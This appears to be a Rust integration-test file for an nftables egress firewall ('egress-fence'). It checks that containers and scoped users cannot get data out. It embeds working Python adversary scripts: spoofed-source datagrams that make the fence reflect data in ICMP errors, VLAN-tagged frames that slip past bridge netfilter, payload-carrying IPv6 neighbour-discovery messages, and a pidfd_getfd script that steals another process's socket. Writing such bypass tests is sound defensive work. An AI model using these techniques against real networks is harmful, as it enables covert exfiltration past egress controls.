/// A LAN port that appears on a listed bridge while `run` fences it: the table has no rule
/// that could refuse what the bridge switches, so the daemon's host poll says so as an error,
/// every time it looks, until the port is gone; a reload then refuses the policy.
#[test]
fn a_lan_port_added_to_a_listed_bridge_while_running_is_logged_as_an_error() {
    let w = World::new();
    let _container = BridgedContainer::new(&w);
    assert_hole_added_while_running_is_said(
        &w,
        || bridge_tunnel_port(&w),
        "listed bridge efbr0 has port lanvx (a vxlan device)",
    );
}

/// Runs the daemon on BRIDGE_POLICY, then `add`s a hole to the listed bridge: the daemon's
/// host poll says `said` as an error (NOT fenced) every time it looks, and a reload then finds
/// the policy refused while the running one stays.
fn assert_hole_added_while_running_is_said(w: &World, add: impl FnOnce(), said: &str) {
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    let mut daemon = w.spawn_egress_fence(&["run", path_arg(&policy)]);
    assert!(
        daemon.wait_for_output("running", Duration::from_secs(20)),
        "the daemon did not start: {}",
        daemon.stderr()
    );
    add();
    let seen_twice = within(Duration::from_secs(10), || {
        daemon.stderr().matches(said).count() >= 2
    });
    daemon.signal(nix::sys::signal::Signal::SIGHUP);
    let reload_refused = daemon.wait_for_output(
        "the new policy is invalid; the running one stays",
        Duration::from_secs(10),
    );
    let log = daemon.stderr();
    let _ = daemon.terminate();
    assert!(seen_twice, "the daemon did not keep saying so: {log}");
    assert!(reload_refused, "the reload was not refused: {log}");
    assert!(
        log.lines()
            .any(|l| l.contains(said) && l.contains("ERROR") && l.contains("NOT fenced")),
        "{log}"
    );
}

/// Connects an MPTCP socket (its subflows are TCP sockets the kernel makes) to ARGV[1]:443;
/// prints `connected` or `refused`.
const MPTCP_CONNECT: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)  # IPPROTO_MPTCP
s.settimeout(3)
try:
    s.connect((sys.argv[1], 443))
    s.send(b'mptcp-data')
    print('connected')
except OSError:
    print('refused')
"#;

/// MPTCP: the kernel makes the subflows' TCP sockets, and a socket without a file has no
/// owner for `meta skuid`. The subflows are grafted to the user's socket (owner) and take its
/// cgroup: a scoped user and a process in a scoped cgroup stay fenced.
#[test]
fn mptcp_subflows_of_a_scoped_user_or_cgroup_are_fenced() {
    let w = World::new();
    let mut cgroups = TestCgroups::new();
    let fenced = cgroups.make("fenced");
    let policy = format!(
        "version: 1\naction: reject\nscope:\n  users: [1001]\n  cgroups: [{}]\nallow:\n  - cidr: \
         192.0.2.10/32\n    ports: [443]\ndns:\n  resolvers: [192.0.2.53]\n",
        cgroups.policy_path("fenced")
    );
    let policy = w.write_file("scope.yaml", &policy);
    let listener = w.listen_tcp(OTHER_V4, 443);
    let other = OTHER_V4.to_string();
    let before = w.adversary_cmd(SCOPED, &[PYTHON, "-c", MPTCP_CONNECT, &other]);
    assert_eq!(before.stdout.trim(), "connected", "no MPTCP here: {before}");
    // The listener records the connection on its own thread, a moment after the client saw it.
    assert!(listener.wait_for(1, Duration::from_secs(5)));
    let seen = listener.count();
    put_up(&w, &policy, SCOPE_LOAD);
    let by_uid = w.adversary_cmd(SCOPED, &[PYTHON, "-c", MPTCP_CONNECT, &other]);
    assert_eq!(by_uid.stdout.trim(), "refused", "{by_uid}");
    let by_cgroup = w.sandbox_cmd_in_cgroup(&fenced, &[PYTHON, "-c", MPTCP_CONNECT, &other]);
    assert_eq!(by_cgroup.stdout.trim(), "refused", "{by_cgroup}");
    assert_eq!(listener.count(), seen);
}

/// Writes, on the container's eth0 to the bridge's MAC, 3 IPv4/UDP datagrams from SRC:40002
/// to DST:PORT: a DNS query for NAME when KIND is `dns`, else NAME itself as the payload.
/// Arguments: DST_MAC SRC DST PORT KIND NAME.
const SPOOFED_DATAGRAM: &str = concat!(
    crate::inet_checksum_py!(),
    r#"
import socket, struct, sys
dst_mac, src, dst, port, kind, name = sys.argv[1:7]
port = int(port)
if kind == 'dns':
    qname = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    payload = struct.pack('!HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0) + qname + struct.pack('!HH', 1, 1)
else:
    payload = name.encode()
udp = struct.pack('!HHHH', 40002, port, 8 + len(payload), 0) + payload
h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 778, 0, 64, 17, 0,
                socket.inet_aton(src), socket.inet_aton(dst))
packet = h[:10] + struct.pack('!H', checksum(h)) + h[12:] + udp
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('eth0', 0))
frame = bytes.fromhex(dst_mac.replace(':', '')) + s.getsockname()[4] + b'\x08\x00' + packet
for _ in range(3):
    s.send(frame)
print('written')
"#
);

/// The sandbox's reverse path filter as systemd sets it on most hosts (loose: a source is
/// accepted on any interface as long as some route leads back to it); the bridge's MAC.
fn loose_rp_filter_and_bridge_mac(w: &World) -> String {
    for conf in ["all", "default", BRIDGE] {
        let key = format!("net.ipv4.conf.{conf}.rp_filter=2");
        let out = w.sandbox_cmd(&["sysctl", "-q", "-w", &key]);
        assert!(out.success(), "{out}");
    }
    let mac = w.sandbox_cmd(&["cat", &format!("/sys/class/net/{BRIDGE}/address")]);
    assert!(mac.success(), "{mac}");
    mac.stdout.trim().to_string()
}

/// Root in the container writes a datagram the fence refuses, from a spoofed source: an
/// outside address it controls. `reject with icmpx admin-prohibited` answers that source
/// with an ICMP error that quotes the datagram (up to 576 bytes in all for IPv4, 1280 for
/// IPv6), and the host's kernel sends it out of the uplink: no scope rule sees a packet of
/// the host's own ICMP socket. The container's data leaves in the fence's own refusals.
/// Fix: drop what a listed bridge sends from a source outside the bridge's networks
/// (`iifname "efbr0" fib saddr . iif oif missing drop`, or a check of the bridge's
/// prefixes) before anything answers it, and/or refuse from a bridge by `drop`.
#[test]
fn a_container_cannot_make_the_fence_reflect_its_data_to_a_spoofed_source() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    let mac = loose_rp_filter_and_bridge_mac(&w);
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    let (src, dst, port) = (
        OTHER2_V4.to_string(),
        OTHER_V4.to_string(),
        UDP_PORT.to_string(),
    );
    let (capture, sent) = w.count_marked_frames(0x0800, "reflected-secret", 3, || {
        container.cmd(&[
            PYTHON,
            "-c",
            SPOOFED_DATAGRAM,
            &mac,
            &src,
            &dst,
            &port,
            "raw",
            "reflected-secret",
        ])
    });
    assert!(sent.success(), "{sent}");
    assert_eq!(
        capture.stdout.trim(),
        "0",
        "the container's payload left the host quoted in the fence's ICMP error"
    );
}

/// Root in the container asks the guard on the bridge address a name outside the policy,
/// from a spoofed outside source: the guard's refusal repeats the question (the data) and
/// goes to that source out of the uplink. Fix as above (the guard answers only sources of
/// the bridge's networks; the table drops spoofed sources from a listed bridge).
#[test]
fn a_container_cannot_make_the_guard_answer_a_spoofed_source() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    let mac = loose_rp_filter_and_bridge_mac(&w);
    let policy = w.write_file("scope.yaml", BRIDGE_GUARD_POLICY);
    let _guard = w.spawn_guard(path_arg(&policy));
    let answer = container.dig(BRIDGE_V4, "guard-is-up.example.com");
    assert!(
        answer.stdout.contains("status:"),
        "the guard does not answer on the bridge: {answer}"
    );
    let (src, bridge) = (OTHER2_V4.to_string(), BRIDGE_V4.to_string());
    let (capture, sent) = w.count_marked_frames(0x0800, "exfilsecret", 3, || {
        container.cmd(&[
            PYTHON,
            "-c",
            SPOOFED_DATAGRAM,
            &mac,
            &src,
            &bridge,
            "53",
            "dns",
            "exfilsecret.elsewhere.example.com",
        ])
    });
    assert!(sent.success(), "{sent}");
    assert_eq!(
        capture.stdout.trim(),
        "0",
        "the guard's answer to a spoofed source left the host with the container's question"
    );
}

/// Writes, on the container's eth0, 3 frames tagged 802.1Q VLAN 100 to DST_MAC carrying an
/// IPv4/UDP datagram from the container to DST:PORT with payload MARKER (root in the
/// container needs no VLAN device for it: a packet socket will do). Arguments: DST_MAC DST
/// PORT MARKER.
const TAGGED_FRAME: &str = r#"
import socket, struct, sys
dst_mac, dst, port, marker = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
payload = marker.encode()
udp = struct.pack('!HHHH', 40003, port, 8 + len(payload), 0) + payload
h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 779, 0, 64, 17, 0,
                socket.inet_aton('198.18.0.2'), socket.inet_aton(dst))
t = sum(struct.unpack('!10H', h))
while t >> 16:
    t = (t & 0xffff) + (t >> 16)
h = h[:10] + struct.pack('!H', ~t & 0xffff) + h[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('eth0', 0))
tag = b'\x81\x00' + struct.pack('!H', 100) + b'\x08\x00'
frame = bytes.fromhex(dst_mac.replace(':', '')) + s.getsockname()[4] + tag + h + udp
for _ in range(3):
    s.send(frame)
print('written')
"#;

/// Counts, for 4 s, the frames arriving on interface ARGV[3] of the net namespace that carry
/// ARGV[2]; creates ARGV[1] once bound. Prints the count and their bytes: `FRAMES BYTES`.
const COUNT_ON: &str = r#"
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind((sys.argv[3], 0))
s.settimeout(0.2)
open(sys.argv[1], 'w').close()
end, count, size = time.time() + 4, 0, 0
while time.time() < end:
    try:
        frame, addr = s.recvfrom(65535)
    except socket.timeout:
        continue
    if addr[2] != socket.PACKET_OUTGOING and sys.argv[2].encode() in frame:
        count += 1
        size += len(frame)
print(count, size)
"#;

/// Runs `during` while [`COUNT_ON`] counts the frames carrying `marker` that arrive on
/// `iface` of the net namespace; returns `(frames, bytes)` and what `during` gave.
fn count_on<T: Send>(
    w: &World,
    iface: &str,
    marker: &str,
    during: impl FnOnce() -> T + Send,
) -> ((u64, u64), T) {
    let ready = w.dir().join(format!("capture-ready-{iface}-{marker}"));
    let ready_arg = ready.to_str().expect("utf-8 path").to_string();
    std::thread::scope(|scope| {
        let capture =
            scope.spawn(|| w.net_cmd(&[PYTHON, "-c", COUNT_ON, &ready_arg, marker, iface]));
        assert!(
            within(Duration::from_secs(5), || ready.exists()),
            "the capture did not start"
        );
        let during = during();
        let out = capture.join().expect("the capture thread");
        let mut numbers = out
            .stdout
            .split_whitespace()
            .map(|n| n.parse::<u64>().unwrap_or(0));
        let counted = (numbers.next().unwrap_or(0), numbers.next().unwrap_or(0));
        (counted, during)
    })
}

/// Bridge netfilter passes untagged IP frames to the inet hooks, but by default
/// (`bridge-nf-filter-vlan-tagged=0`, `...-pppoe-tagged=0`) not 802.1Q- or PPPoE-tagged ones:
/// root in the container writes tagged frames, and the bridge switches them to its LAN port
/// (to a router there that routes VLAN 100) unfenced, even where untagged ones are fenced.
/// Closed as the LAN port without bridge netfilter is: the plan's table, put up by nft past
/// egress-fence's checks, fences the untagged frames and not the tagged ones; `apply` and
/// `run` refuse a listed bridge with such a port.
#[test]
fn a_containers_vlan_tagged_frames_are_fenced_on_a_bridge_with_a_lan_port() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    bridge_tunnel_port(&w);
    let nf = w.sandbox_cmd(&["sysctl", "-q", "-w", "net.bridge.bridge-nf-call-iptables=1"]);
    assert!(nf.success(), "{nf}");
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, ScopeLoad::NftText);
    assert!(
        !container_out_by_the_lan(&w, &container),
        "untagged frames are not fenced: the test proves nothing"
    );
    let lan_mac = w.net_cmd(&["cat", "/sys/class/net/ctlan/address"]);
    assert!(lan_mac.success(), "{lan_mac}");
    let lan_mac = lan_mac.stdout.trim().to_string();
    let ((frames, _), sent) = count_on(&w, "ctlan", "tagged-out", || {
        container.cmd(&[
            PYTHON,
            "-c",
            TAGGED_FRAME,
            &lan_mac,
            &OTHER_V4.to_string(),
            &UDP_PORT.to_string(),
            "tagged-out",
        ])
    });
    assert!(sent.success(), "{sent}");
    assert!(
        frames > 0,
        "the container's VLAN-tagged frames did not reach the LAN router past the plan's \
         table: the test proves nothing"
    );
    assert_lan_port_refused(&w, &policy);
}

/// Writes 3 ICMPv6 messages of each type in ARGV[2] (comma separated numbers: 128 echo
/// request, 133 RS, 135 NS, 136 NA) carrying ARGV[3] to ARGV[1], from a raw socket (root in
/// the container); prints `written`.
const WRITE_ICMPV6_TYPES: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
for kind in map(int, sys.argv[2].split(',')):
    message = bytes([kind, 0, 0, 0, 0, 0, 0, 0]) + (sys.argv[3] + ' ').encode() * 40
    for _ in range(3):
        s.sendto(message, (sys.argv[1], 0))
print('written')
"#;

/// Gives the bridge fd18::1/64 and the container fd18::2/64 with its default route through
/// the bridge, and turns IPv6 forwarding on in the sandbox (as Docker does for IPv6
/// networks).
fn container_ipv6(w: &World, container: &BridgedContainer) {
    let out = w.sandbox_cmd(&[
        "sh",
        "-c",
        "sysctl -q -w net.ipv6.conf.all.forwarding=1 && \
         ip -6 addr add fd18::1/64 dev efbr0 nodad",
    ]);
    assert!(out.success(), "{out}");
    let out = container.cmd(&[
        "sh",
        "-c",
        "ip -6 addr add fd18::2/64 dev eth0 nodad && ip -6 route add default via fd18::1",
    ]);
    assert!(out.success(), "{out}");
}

/// The fence accepts neighbour discovery (RS, NS, NA) by ICMPv6 type alone, after
/// `meta l4proto ipv6-icmp meta skuid >= 0 oif != "lo" goto refused` has refused what a
/// process wrote. A forwarded packet has no socket, so that rule never matches on the forward
/// path: root in a container writes NS/NA/RS messages with any payload (up to the MTU) to any
/// outside address, and the host forwards them. Fix: accept neighbour discovery only with
/// `ip6 hoplimit 255` and a link-local or link-scope multicast destination (what RFC 4861
/// requires of it, and what is never forwarded), or keep the ND accepts out of the chain the
/// forward path jumps to.
#[test]
fn a_container_gets_no_data_out_as_neighbour_discovery() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    container_ipv6(&w, &container);
    let other = OTHER_V6.to_string();
    let (before, written) = w.count_marked_frames(0x86dd, "v6-before", 3, || {
        container.cmd(&[PYTHON, "-c", WRITE_ICMPV6_TYPES, &other, "128", "v6-before"])
    });
    assert!(written.success(), "{written}");
    assert_ne!(
        before.stdout.trim(),
        "0",
        "without a table the container's IPv6 does not leave: the test proves nothing"
    );

    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    let (echo, written) = w.count_marked_frames(0x86dd, "echo-after", 3, || {
        container.cmd(&[
            PYTHON,
            "-c",
            WRITE_ICMPV6_TYPES,
            &other,
            "128",
            "echo-after",
        ])
    });
    assert!(written.success(), "{written}");
    assert_eq!(echo.stdout.trim(), "0", "the container's echo request left");
    let (nd, written) = w.count_marked_frames(0x86dd, "nd-exfil", 3, || {
        container.cmd(&[
            PYTHON,
            "-c",
            WRITE_ICMPV6_TYPES,
            &other,
            "133,135,136",
            "nd-exfil",
        ])
    });
    assert!(written.success(), "{written}");
    assert_eq!(
        nd.stdout.trim(),
        "0",
        "the container's data left as neighbour discovery to {other}"
    );
}

/// Makes a UDP and a TCP socket, prints `ready`, waits for the file ARGV[1], then sends a
/// datagram to ARGV[2]:7000 and connects to ARGV[2]:443 with them; prints `udp X tcp Y`
/// (`sent`/`refused`, `connected`/`refused`).
const SOCKETS_MADE_BEFORE: &str = r#"
import os, socket, sys, time
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
tcp.settimeout(2)
print('ready', flush=True)
while not os.path.exists(sys.argv[1]):
    time.sleep(0.05)
try:
    udp.sendto(b'made-before', (sys.argv[2], 7000))
    u = 'sent'
except OSError:
    u = 'refused'
try:
    tcp.connect((sys.argv[2], 443))
    t = 'connected'
except OSError:
    t = 'refused'
print('udp', u, 'tcp', t, flush=True)
"#;

/// Sockets a scoped user made before the table went up are judged when they send, by the
/// owner and cgroup they were made with: fenced from their first packet after it.
#[test]
fn sockets_made_before_the_table_are_fenced_once_it_is_up() {
    let w = World::new();
    let mut cgroups = TestCgroups::new();
    let fenced = cgroups.make("fenced");
    let policy = format!(
        "version: 1\naction: reject\nscope:\n  users: [1001]\n  cgroups: [{}]\nallow:\n  - cidr: \
         192.0.2.10/32\n    ports: [443]\ndns:\n  resolvers: [192.0.2.53]\n",
        cgroups.policy_path("fenced")
    );
    let policy = w.write_file("scope.yaml", &policy);
    let udp = w.listen_udp(OTHER_V4, UDP_PORT);
    let tcp = w.listen_tcp(OTHER_V4, 443);
    let go = std::env::temp_dir().join(format!("eft-red1-go-{}", std::process::id()));
    let _ = fs::remove_file(&go);
    let go_arg = go.to_str().expect("utf-8 path").to_string();
    let other = OTHER_V4.to_string();
    let args = [PYTHON, "-c", SOCKETS_MADE_BEFORE, &go_arg, &other];
    let mut by_uid = w.spawn_adversary(SCOPED, &args);
    assert!(by_uid.wait_for_output("ready", Duration::from_secs(5)));
    let mut by_cgroup = w.spawn_net_only_in_cgroup(&fenced, &args);
    assert!(by_cgroup.wait_for_output("ready", Duration::from_secs(5)));

    put_up(&w, &policy, SCOPE_LOAD);
    fs::write(&go, b"").expect("the go file");
    let done_uid = by_uid.wait_for_output("udp ", Duration::from_secs(10));
    let done_cgroup = by_cgroup.wait_for_output("udp ", Duration::from_secs(10));
    let _ = fs::remove_file(&go);
    assert!(
        done_uid && done_cgroup,
        "{} / {}",
        by_uid.stdout(),
        by_cgroup.stdout()
    );
    for (who, out) in [
        ("uid 1001", by_uid.stdout()),
        ("the cgroup", by_cgroup.stdout()),
    ] {
        assert!(
            out.contains("udp refused tcp refused"),
            "{who}'s sockets made before the table: {out}"
        );
    }
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(udp.count() + tcp.count(), 0);
}

/// Binds a UDP socket to `lo` (SO_BINDTODEVICE: no privilege for a socket not bound to a
/// device yet), from source ARGV[2] when given, and sends a datagram carrying ARGV[3] to
/// ARGV[1]:7000; prints `sent` or `refused`.
const SEND_BOUND_TO_LO: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'lo')
if sys.argv[2] != '-':
    s.bind((sys.argv[2], 0))
try:
    for _ in range(3):
        s.sendto(sys.argv[3].encode(), (sys.argv[1], 7000))
    print('sent')
except OSError as e:
    print('refused', e)
"#;

/// The fence accepts whatever leaves by `lo` (`oif "lo" accept`). A scoped user binds its
/// socket to `lo` and sends to an outside address, on a host that forwards (a container
/// host): the datagram goes out by `lo`, but nothing brings it from `lo` to the uplink.
#[test]
fn a_scoped_user_gets_nothing_out_through_a_socket_bound_to_lo() {
    let w = World::new();
    let _container = BridgedContainer::new(&w); // forwarding on, as on a container host
    let policy = w.write_file("scope.yaml", USER_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    let other = OTHER_V4.to_string();
    let sandbox = SANDBOX_V4.to_string();
    for (source, marker) in [("-", "bound-lo-any"), (sandbox.as_str(), "bound-lo-uplink")] {
        let (capture, out) = w.count_marked_frames(0x0800, marker, 2, || {
            w.adversary_cmd(
                SCOPED,
                &[PYTHON, "-c", SEND_BOUND_TO_LO, &other, source, marker],
            )
        });
        assert!(out.success(), "{out}");
        assert_eq!(
            capture.stdout.trim(),
            "0",
            "uid 1001's datagram by lo from {source} left the host: {out}"
        );
    }
}

/// Holds an unconnected UDP socket as descriptor 3 and sleeps: an unfenced process of the
/// fenced user (its editor, its shell, a job cron started), outside the listed cgroup.
/// ARGV[1] only marks it, for [`TAKE_SOCKET`] to find.
const HOLD_SOCKET: &str = r#"
import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
os.dup2(s.fileno(), 3)
time.sleep(30)
"#;

/// Finds the process of its own uid whose command line holds ARGV[1], takes its descriptor 3
/// with pidfd_getfd (ptrace's access check: same uid, dumpable, no Yama restriction) and sends
/// ARGV[2] to ARGV[3]:ARGV[4] through it. Prints `sent` or why not.
const TAKE_SOCKET: &str = r#"
import ctypes, os, socket, sys
marker = sys.argv[1].encode()
libc = ctypes.CDLL(None, use_errno=True)
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) == os.getpid():
        continue
    try:
        cmd = open('/proc/%s/cmdline' % pid, 'rb').read()
        if marker not in cmd.split(b'\0') or os.stat('/proc/' + pid).st_uid != os.getuid():
            continue
        pidfd = os.pidfd_open(int(pid))
    except OSError:
        continue
    fd = libc.syscall(438, pidfd, 3, 0)
    if fd < 0:
        sys.exit('pidfd_getfd: ' + os.strerror(ctypes.get_errno()))
    s = socket.socket(fileno=fd)
    try:
        s.sendto(sys.argv[2].encode(), (sys.argv[3], int(sys.argv[4])))
        print('sent')
    except OSError as e:
        print('refused:', e)
    sys.exit(0)
sys.exit('no holder found')
"#;

/// A cgroup-only scope fences the sockets made in the cgroup, by the socket's cgroup: a
/// process in it may still take over any process of its own uid outside it (ptrace,
/// /proc/PID/mem, pidfd_getfd, as the uid's own rights allow, with no capability) and send
/// through that process's sockets, which no rule fences. No table can tell the taken socket
/// from its owner's, so `check` says it and names the remedy: list the uid too, whose
/// sockets are then fenced by their owner wherever they were made, taken ones included.
#[test]
fn a_process_in_a_listed_cgroup_sends_through_a_socket_taken_from_its_uid_outside_it() {
    let w = World::new();
    let mut cgroups = TestCgroups::new();
    let fenced = cgroups.make("fenced");
    let text = cgroup_policy(&cgroups.policy_path("fenced"));
    let policy = w.write_file("scope.yaml", &text);
    put_up(&w, &policy, SCOPE_LOAD);
    let listener = w.listen_udp(OTHER_V4, UDP_PORT);
    let marker = format!("holder-{}", w.sandbox_name());
    let holder = w.spawn_adversary(SCOPED, &[PYTHON, "-c", HOLD_SOCKET, &marker]);
    std::thread::sleep(Duration::from_millis(500));
    let take = |marker: &str, payload: &str| {
        let who = as_ids(SCOPED_UID, SCOPED_UID, &[]);
        let mut args: Vec<&str> = who.iter().map(String::as_str).collect();
        let (other, port) = (OTHER_V4.to_string(), UDP_PORT.to_string());
        args.extend([PYTHON, "-c", TAKE_SOCKET, marker, payload, &other, &port]);
        w.sandbox_net_only_cmd_in_cgroup(&fenced, &args)
    };
    // Its own socket is fenced.
    let own = w.sandbox_net_only_cmd_in_cgroup(
        &fenced,
        &[
            PYTHON,
            "-c",
            "import socket,sys; socket.socket(2,2).sendto(b'own', (sys.argv[1], int(sys.argv[2])))",
            &OTHER_V4.to_string(),
            &UDP_PORT.to_string(),
        ],
    );
    assert!(!own.success(), "the listed cgroup is not fenced: {own}");
    let out = take(&marker, "taken");
    assert!(
        out.stdout.contains("sent") && listener.wait_for(1, Duration::from_secs(2)),
        "the socket was not taken or did not get out: the test proves nothing: {out}"
    );
    let (code, said) = check(&policy);
    assert_eq!(code, Some(0), "{said}");
    assert!(
        said.contains("warning:") && said.contains("pidfd_getfd") && said.contains("`scope.users`"),
        "check says nothing of the uid a cgroup-only scope leaves open: {said}"
    );

    // The uid listed too: the taken socket is its owner's, and fenced.
    let text = text.replace("scope:\n", &format!("scope:\n  users: [{SCOPED_UID}]\n"));
    let policy = w.write_file("scope-user.yaml", &text);
    put_up(&w, &policy, SCOPE_LOAD);
    // A socket of its own, not the flow the first one left established.
    drop(holder);
    let marker = format!("{marker}-again");
    let _holder = w.spawn_adversary(SCOPED, &[PYTHON, "-c", HOLD_SOCKET, &marker]);
    std::thread::sleep(Duration::from_millis(500));
    let before = listener.count();
    let out = take(&marker, "taken-again");
    assert!(out.stdout.contains("refused"), "{out}");
    assert!(
        !listener.wait_for(before + 1, Duration::from_secs(2)),
        "a taken socket of the listed user got out: {out}"
    );
    let (code, said) = check(&policy);
    assert_eq!(code, Some(0), "{said}");
    assert!(!said.contains("pidfd_getfd"), "{said}");
}

/// `egress-fence check POLICY`: its exit code and its stderr.
fn check(policy: &std::path::Path) -> (Option<i32>, String) {
    let out = std::process::Command::new(EGRESS_FENCE_BIN)
        .args(["check", path_arg(policy)])
        .output()
        .expect("run egress-fence check");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// `efmv0`, a macvlan on the listed bridge, is a port of a second bridge `efbr2` that has the
/// address the container routes by: what the container sends it arrives with `efbr2` as input
/// interface, so listing `efmv0` fences nothing.
fn bridge_stacked_device_in_a_second_bridge(w: &World, container: &BridgedContainer) {
    let script = format!(
        "sysctl -q -w net.ipv4.conf.all.arp_ignore=1 && ip link add link {BRIDGE} name efmv0 \
         type macvlan mode bridge && ip link add efbr2 type bridge && ip link set efmv0 master \
         efbr2 && ip addr add 198.18.0.3/24 dev efbr2 && ip link set efmv0 up && ip link set \
         efbr2 up"
    );
    let out = w.sandbox_cmd(&["sh", "-c", &script]);
    assert!(out.success(), "{out}");
    let route = container.cmd(&["ip", "route", "replace", "default", "via", "198.18.0.3"]);
    assert!(route.success(), "{route}");
}

/// A veth port of the listed bridge whose peer `efpeer` stays in this namespace, with the
/// address the container routes by: what the container sends out of the port arrives with
/// the peer as input interface (the container's neighbour entry names the peer's address,
/// which the bridge would answer ARP for itself). Bridge netfilter is off in the sandbox (its
/// default without Docker): on, it sends the bridged frame through the forward hook as the
/// bridge's, and the fence takes it there.
fn bridge_veth_with_its_peer_here(w: &World, container: &BridgedContainer) {
    let script = format!(
        "sysctl -q -w net.ipv4.conf.all.arp_ignore=1 net.bridge.bridge-nf-call-iptables=0 && \
         ip link add efport type veth peer name efpeer && ip link set efport master {BRIDGE} && ip addr add 198.18.0.3/24 dev efpeer \
         && ip link set efport up && ip link set efpeer up"
    );
    let out = w.sandbox_cmd(&["sh", "-c", &script]);
    assert!(out.success(), "{out}");
    let mac = w.sandbox_cmd(&["cat", "/sys/class/net/efpeer/address"]);
    assert!(mac.success(), "{mac}");
    let neigh = container.cmd(&[
        "ip",
        "neigh",
        "replace",
        "198.18.0.3",
        "lladdr",
        mac.stdout.trim(),
        "dev",
        "eth0",
    ]);
    assert!(neigh.success(), "{neigh}");
    let route = container.cmd(&["ip", "route", "replace", "default", "via", "198.18.0.3"]);
    assert!(route.success(), "{route}");
}

/// Devices above a listed bridge however deep are holes until listed: `policy` (passed by
/// nft, where the container gets out) is refused by `apply` and `run` naming `device`.
fn assert_stacked_refused(
    w: &World,
    container: &BridgedContainer,
    forward: &str,
    device: &str,
) -> String {
    let policy = w.write_file(
        "deep.yaml",
        &BRIDGE_POLICY.replace("forward: [efbr0]", forward),
    );
    put_up(w, &policy, ScopeLoad::NftText);
    assert!(
        container_out_by_its_route(w, container),
        "the container did not get out past the plan's table: the test proves nothing"
    );
    let before = w.table_handle();
    let mut said = String::new();
    for command in ["apply", "run"] {
        let out = w.egress_fence(&[command, path_arg(&policy)]);
        assert_eq!(out.code(), 2, "{command}: {out}");
        assert!(
            out.stderr
                .contains(&format!("List `{device}` in `scope.forward` too")),
            "{command}: {out}"
        );
        said = out.stderr;
    }
    assert_eq!(
        w.table_handle(),
        before,
        "a refused policy replaced the table"
    );
    said
}

/// With `forward` listing what is above the bridge, the policy goes up and the container's
/// datagram no longer gets out.
fn assert_fenced_once_listed(w: &World, container: &BridgedContainer, forward: &str) {
    let listed = w.write_file(
        "listed.yaml",
        &BRIDGE_POLICY.replace("forward: [efbr0]", forward),
    );
    put_up(w, &listed, SCOPE_LOAD);
    assert!(
        !container_out_by_its_route(w, container),
        "the container got out with {forward}"
    );
}

/// A macvlan on the listed bridge that is a port of a second bridge: listing the macvlan is
/// not enough (the input interface is the second bridge), so the second bridge must be
/// listed too; then the container is fenced.
#[test]
fn a_second_bridge_over_a_device_stacked_on_a_listed_bridge_is_refused_unless_listed_too() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    bridge_stacked_device_in_a_second_bridge(&w, &container);
    assert_stacked_refused(&w, &container, "forward: [efbr0, efmv0]", "efbr2");
    assert_fenced_once_listed(&w, &container, "forward: [efbr0, efmv0, efbr2]");
}

/// A veth port of the listed bridge whose peer is in this namespace: the peer is a hole
/// until listed; then the container is fenced.
#[test]
fn a_veth_port_whose_peer_is_in_this_namespace_is_refused_unless_the_peer_is_listed() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    bridge_veth_with_its_peer_here(&w, &container);
    assert_stacked_refused(&w, &container, "forward: [efbr0]", "efpeer");
    assert_fenced_once_listed(&w, &container, "forward: [efbr0, efpeer]");
}

/// A device stacked on a listed bridge while `run` fences it is seen by the daemon's host
/// poll and said as an error every time it looks, like a LAN port; a reload then refuses the
/// policy.
#[test]
fn a_device_stacked_on_a_listed_bridge_while_running_is_logged_as_an_error() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    assert_hole_added_while_running_is_said(
        &w,
        || bridge_stacked_device(&w, &container),
        "listed bridge efbr0 carries efmv0 (a macvlan device on top of it)",
    );
}
